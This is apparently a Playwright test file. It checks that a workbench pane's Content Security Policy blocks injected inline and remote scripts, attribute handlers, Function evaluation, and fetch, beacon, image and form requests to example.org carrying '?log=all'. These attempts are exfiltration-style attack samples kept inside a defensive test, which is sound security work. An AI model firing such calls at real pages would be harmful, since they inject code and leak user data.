import { type Browser, type Frame, chromium } from "playwright-core";
import { builtWorkbench } from "../built/builtWorkbench";
import { driveWorkbench } from "./driveWorkbench";

let browser: Browser;
let pane: Frame;
beforeAll(async () => {
  const built = await builtWorkbench();
  browser = await chromium.connect(built.browser);
  const page = await browser.newPage();
  await page.goto(built.url);
  pane = (await driveWorkbench(page)).pane();
});
afterAll(() => browser.close());

/** What somebody may try who gets a word into the pane; each gives whether it worked. */
const ATTEMPTS = {
  "script-src-elem": {
    "a script within the page": () => {
      const script = document.createElement("script");
      script.textContent = "window.name = 'ran'";
      document.body.append(script);
      return Promise.resolve(window.name === "ran");
    },
    "a script of another host": () => {
      const script = document.createElement("script");
      script.src = "https://example.org/script.js";
      document.body.append(script);
      return new Promise<boolean>((resolve) => {
        script.onload = () => {
          resolve(true);
        };
        script.onerror = () => {
          resolve(false);
        };
      });
    },
  },
  "script-src-attr": {
    "a script in an attribute": () => {
      document.body.setAttribute("onclick", "window.name = 'ran'");
      document.body.dispatchEvent(new MouseEvent("click"));
      return Promise.resolve(window.name === "ran");
    },
  },
  "script-src": {
    // Later, since the debugger that runs the attempt is allowed what the page is not.
    "a text as code": () =>
      new Promise<boolean>((resolve) => {
        setTimeout(() => {
          try {
            resolve(Boolean(Reflect.construct(Function, ["return true"])));
          } catch {
            resolve(false);
          }
        });
      }),
  },
  "connect-src": {
    "a request to another host": () =>
      fetch("https://example.org/?log=all").then(
        () => true,
        () => false,
      ),
    "a beacon to another host": () =>
      Promise.resolve(navigator.sendBeacon("https://example.org/", "all") && false),
  },
  "img-src": {
    "a picture of another host": () =>
      new Promise<boolean>((resolve) => {
        const image = new Image();
        image.onload = () => {
          resolve(true);
        };
        image.onerror = () => {
          resolve(false);
        };
        image.src = "https://example.org/?log=all";
      }),
  },
  "form-action": {
    "a form to another host": () => {
      const form = document.createElement("form");
      form.action = "https://example.org/";
      document.body.append(form);
      form.submit();
      return Promise.resolve(false);
    },
  },
} as const;

const tried = Object.entries(ATTEMPTS).flatMap(([directive, attempts]) =>
  Object.entries(attempts).map(([what, attempt]: [string, () => Promise<boolean>]) => ({
    what,
    directive,
    attempt,
  })),
);

test.each(tried)("the pane is refused $what", async ({ directive, attempt }) => {
  await pane.evaluate(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      document.body.dataset["refused"] = effectiveDirective;
    });
    delete document.body.dataset["refused"];
  });
  expect(await pane.evaluate(attempt)).toBe(false);
  await pane.waitForFunction((wanted) => document.body.dataset["refused"] === wanted, directive);
});
